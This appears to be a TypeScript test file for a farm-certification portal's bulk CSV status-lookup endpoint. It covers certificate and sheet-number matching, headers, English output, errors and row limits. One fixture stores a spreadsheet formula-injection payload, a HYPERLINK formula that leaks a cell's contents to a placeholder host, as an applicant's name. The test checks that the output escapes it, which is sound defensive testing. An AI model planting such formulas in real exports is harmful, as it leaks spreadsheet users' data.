import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { BULK_LOOKUP_HEADERS, BULK_LOOKUP_MAX_ROWS, BULK_STATUS_CSV, BULK_STATUS_CSV_EN, PORTFOLIO_MSG } from '@portal/shared-api';
import { properties } from '../../../db/schema';
import { build } from '../../../../test/build';
import { createOwner, daysAgo, enrolment, farm, insertEnrolments } from '../../../../test/fixtures';
import { csvDate } from '../../../lib/csv';

/** POST properties/status.csv as a buyer's script sends it. */
const lookup = (t: ReturnType<typeof build>, body: string, contentType = 'text/csv') =>
  t.app.inject({ method: 'POST', url: '/api/properties/status.csv', headers: { 'content-type': contentType }, payload: body });

const rowsOf = (text: string) => parse(text.replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];

describe('POST /api/properties/status.csv: bulk status lookup', () => {
  const t = build();
  const ids: Record<string, number> = {};

  beforeAll(async () => {
    const owner = await createOwner(t.db);
    const [active, expired, pending, twice, digits, formula] = await insertEnrolments(t.db, [
      enrolment(owner, { fullName: 'Ana Vigente Mora', properties: [farm({ sheetNumber: '2-111111-000' })] }),
      // approved 400 days ago: past its 12 months
      enrolment(owner, { fullName: 'Berta Vencida Solís', dateApproved: daysAgo(400), properties: [farm({ sheetNumber: '2-222222-000' })] }),
      enrolment(owner, { status: 'Presentada', dateApproved: undefined, properties: [farm({ sheetNumber: '2-333333-000' })] }),
      // one sheet number certified twice (two enrolments of one farm)
      enrolment(owner, { fullName: 'Carla Doble Rojas', properties: [farm({ sheetNumber: '2-111111-000', fantasyName: 'Otra parte' })] }),
      // a sheet number of digits alone, as some are written
      enrolment(owner, { fullName: 'Diana Dígitos Vega', properties: [farm({ sheetNumber: '123456' })] }),
      // what an applicant may type: Excel must show it, never run it
      enrolment(owner, { fullName: '=HYPERLINK("http://x.example/?"&A2;"Ver")', properties: [farm({ sheetNumber: '=1+1' })] }),
    ]);
    const idOf = async (enrolmentId: number) => (await t.db.select({ id: properties.id }).from(properties).where(eq(properties.enrolmentId, enrolmentId)))[0]!.id;
    ids.active = await idOf(active!);
    ids.expired = await idOf(expired!);
    ids.pending = await idOf(pending!);
    ids.twice = await idOf(twice!);
    ids.digits = await idOf(digits!);
    ids.formula = await idOf(formula!);
  });

  it('answers one row per number asked, in order: status, holder, dates and the public profile; unknown ones say so', async () => {
    const response = await lookup(t, `certificado\n${ids.expired}\n${ids.active}\n999999\n${ids.pending}\n`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(`attachment; filename="${BULK_STATUS_CSV.fileName}"`);
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    expect([response.headers[BULK_LOOKUP_HEADERS.rows], response.headers[BULK_LOOKUP_HEADERS.notFound]]).toEqual(['4', '2']);
    const [header, ...rows] = rowsOf(response.body);
    expect(header).toEqual([...BULK_STATUS_CSV.headers]);
    expect(rows.map((row) => [row[0], row[1], row[3]])).toEqual([
      [String(ids.expired), String(ids.expired), 'Vencida'],
      [String(ids.active), String(ids.active), 'Vigente'],
      ['999999', '', BULK_STATUS_CSV.notFound],
      // enrolled but never certified: no certificate to show
      [String(ids.pending), '', BULK_STATUS_CSV.notFound],
    ]);
    const active = rows[1]!;
    expect(active[2]).toBe('2-111111-000');
    expect(active[4]).toBe('Ana Vigente Mora');
    expect(active[5]).toMatch(/^01\.01\.01\.01\.01 /);
    expect(active[6]).toBe(csvDate(daysAgo(10).toISOString()));
    expect(active[7]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(active[8]).toBe(`http://localhost:80/PerfilPropiedad/${ids.active}`);
  });

  it('finds sheet numbers, one row per certificate of a farm, with semicolons and no header as Excel writes them', async () => {
    const response = await lookup(t, '2-111111-000;nota del comprador\r\n\r\n2-444444-000;\r\n');
    expect(response.statusCode).toBe(200);
    const rows = rowsOf(response.body).slice(1);
    expect(rows.map((row) => [row[0], row[1], row[3]])).toEqual([
      ['2-111111-000', String(Math.min(ids.active!, ids.twice!)), 'Vigente'],
      ['2-111111-000', String(Math.max(ids.active!, ids.twice!)), 'Vigente'],
      ['2-444444-000', '', BULK_STATUS_CSV.notFound],
    ]);
  });

  it('takes a first cell without digits as a header: a "certificado" column still finds sheet numbers, a bare one finds both', async () => {
    const certificates = rowsOf((await lookup(t, `N.º de certificado\n${ids.active}\n2-222222-000\n`)).body).slice(1);
    expect(certificates.map((row) => [row[0], row[1]])).toEqual([
      [String(ids.active), String(ids.active)],
      ['2-222222-000', String(ids.expired)],
    ]);
    // a short header and leading zeros
    const bare = rowsOf((await lookup(t, `N.º\n${String(ids.active).padStart(10, '0')}\n123456\n`)).body).slice(1);
    expect(bare.map((row) => [row[0], row[1]])).toEqual([
      [String(ids.active).padStart(10, '0'), String(ids.active)],
      ['123456', String(ids.digits)],
    ]);
    // a "finca" column never reads digits as a certificate number
    const sheets = rowsOf((await lookup(t, `Finca\n${ids.active}\n`)).body).slice(1);
    expect(sheets.map((row) => [row[0], row[3]])).toEqual([[String(ids.active), BULK_STATUS_CSV.notFound]]);
    // numbers beyond any certificate are simply not found
    const huge = await lookup(t, '99999999999999999999\n');
    expect(huge.statusCode).toBe(200);
    expect(rowsOf(huge.body)[1]!.slice(0, 4)).toEqual(['99999999999999999999', '', '', BULK_STATUS_CSV.notFound]);
  });

  it('answers in English with lang=en: its name, headers and statuses, separated by commas', async () => {
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/properties/status.csv?lang=en',
      headers: { 'content-type': 'text/csv' },
      payload: `${ids.expired}\n${ids.active}\n999999\n`,
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="${BULK_STATUS_CSV_EN.fileName}"`);
    const [header, ...rows] = parse(response.body.replace(/^\uFEFF/, ''), { delimiter: ',' }) as string[][];
    expect(header).toEqual(['Query', 'Certificate No.', 'Land registry No.', 'Status', 'Holder', 'Category', 'Issued', 'Valid until', 'Profile']);
    expect(rows.map((row) => [row[0], row[3], row[4]])).toEqual([
      [String(ids.expired), 'Expired', 'Berta Vencida Solís'],
      [String(ids.active), 'Valid', 'Ana Vigente Mora'],
      ['999999', 'Not found', ''],
    ]);
  });

  it('never writes a cell Excel would run as a formula', async () => {
    const response = await lookup(t, `certificado\n${ids.formula}\n=2+2\n`);
    const rows = rowsOf(response.body).slice(1);
    expect(rows[0]![2]).toBe("'=1+1");
    expect(rows[0]![4]).toBe(`'=HYPERLINK("http://x.example/?"&A2;"Ver")`);
    expect(rows[1]![0]).toBe("'=2+2");
  });

  it('refuses an empty file, too many numbers and a body that is not CSV with Spanish messages', async () => {
    const empty = await lookup(t, 'certificado\n\n');
    expect(empty.statusCode).toBe(400);
    expect(empty.json().detail ?? empty.json().title).toContain(PORTFOLIO_MSG.bulkEmpty);
    const many = await lookup(t, Array.from({ length: BULK_LOOKUP_MAX_ROWS + 1 }, (_, i) => String(i + 1)).join('\n'));
    expect(many.statusCode).toBe(400);
    expect(JSON.stringify(many.json())).toContain(PORTFOLIO_MSG.bulkTooMany(BULK_LOOKUP_MAX_ROWS));
    const broken = await lookup(t, 'certificado\n"sin cerrar\n');
    expect(broken.statusCode).toBe(400);
    expect(JSON.stringify(broken.json())).toContain(PORTFOLIO_MSG.bulkUnreadable);
    expect((await lookup(t, '{"ids":[1]}', 'application/json')).statusCode).toBe(400);
    // saved by Excel as "Texto Unicode" (UTF-16): says how to save it instead
    const utf16 = await t.app.inject({ method: 'POST', url: '/api/properties/status.csv', headers: { 'content-type': 'text/csv' }, payload: Buffer.from('certificado\n1\n', 'utf16le') });
    expect(utf16.statusCode).toBe(400);
    expect(JSON.stringify(utf16.json())).toContain(PORTFOLIO_MSG.bulkUnreadable);
  });

  it(`looks up ${BULK_LOOKUP_MAX_ROWS.toLocaleString('en')} numbers at once`, async () => {
    const body = ['finca', ...Array.from({ length: BULK_LOOKUP_MAX_ROWS - 1 }, (_, i) => `9-${String(i).padStart(6, '0')}-000`), '2-222222-000'].join('\n');
    const response = await lookup(t, body);
    expect(response.statusCode).toBe(200);
    const rows = rowsOf(response.body).slice(1);
    expect(rows).toHaveLength(BULK_LOOKUP_MAX_ROWS);
    expect(rows.at(-1)!.slice(0, 4)).toEqual(['2-222222-000', String(ids.expired), '2-222222-000', 'Vencida']);
  });
});
